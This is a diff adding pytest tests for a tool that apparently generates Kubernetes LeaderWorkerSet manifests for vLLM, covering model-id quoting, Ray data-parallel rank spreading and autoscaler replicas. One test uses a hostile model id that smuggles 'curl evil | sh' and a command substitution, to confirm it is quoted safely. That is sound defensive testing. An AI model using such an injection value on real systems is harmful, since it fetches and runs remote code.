@@ -1,4 +1,5 @@
 import copy
+import shlex
 
 import pytest
 import yaml
@@ -171,3 +172,47 @@ def test_names_that_kubernetes_cannot_tell_apart_are_refused(tmp_path):
     told = CliRunner().invoke(app, ["export", "kubernetes", str(file), "--out", str(out)])
     assert told.exit_code == 2 and "'chat_a' and 'chat-a' would both be 'chat-a'" in told.stderr
     assert not out.exists()
+
+
+def group_of(model_id="org/name", **deployment):
+    made = by_kind(manifests(scenario(**{"model": "qwen3-30b-a3b", **deployment}), model_id=model_id))
+    spec = made["LeaderWorkerSet"]["spec"]
+    command = spec["leaderWorkerTemplate"]["leaderTemplate"]["spec"]["containers"][0]["args"][0]
+    return spec, command.split("; ", 1)[1]
+
+
+def test_what_the_shell_of_a_leader_gets_is_quoted():
+    hostile = "org/name; curl evil | sh #$(x)"
+    _, command = group_of(
+        hostile, engine={"tensor_parallel_size": 16}, across_nodes=True, model="llama-3.1-405b"
+    )
+    words = shlex.split(command)
+    assert words[:3] == ["vllm", "serve", hostile]
+    assert words[words.index("--distributed-executor-backend") + 1] == "ray"
+
+
+def test_ranks_over_two_nodes_are_spread_by_ray():
+    spec, command = group_of(data_parallel_size=12)
+    words = shlex.split(command)
+    flags = dict(zip(words[3::2], words[4::2], strict=False))
+    assert flags["--data-parallel-size"] == "12" and flags["--data-parallel-size-local"] == "6"
+    assert flags["--data-parallel-backend"] == "ray" and "--distributed-executor-backend" not in words
+    template = spec["leaderWorkerTemplate"]
+    assert template["size"] == 2
+    for part in ("leaderTemplate", "workerTemplate"):
+        limits = template[part]["spec"]["containers"][0]["resources"]["limits"]
+        assert limits == {"nvidia.com/gpu": "6"}
+    with pytest.raises(ServelabError, match="data_parallel_size=9 .*2 nodes would not have as many ranks"):
+        group_of(data_parallel_size=9)
+    wide = {"engine": {"tensor_parallel_size": 16}, "across_nodes": True, "model": "llama-3.1-405b"}
+    with pytest.raises(ServelabError, match="data_parallel_size=2 of 16 GPUs each: a node has 8"):
+        group_of(data_parallel_size=2, **wide)
+
+
+def test_a_group_leaves_its_replicas_to_the_autoscaler():
+    metrics = [{"metric": "queue_depth", "target_average_value": 4}]
+    spec, _ = group_of(
+        data_parallel_size=16, autoscaler={"kind": "hpa", "max_replicas": 3, "metrics": metrics}
+    )
+    assert "replicas" not in spec
+    assert group_of(data_parallel_size=16)[0]["replicas"] == 3
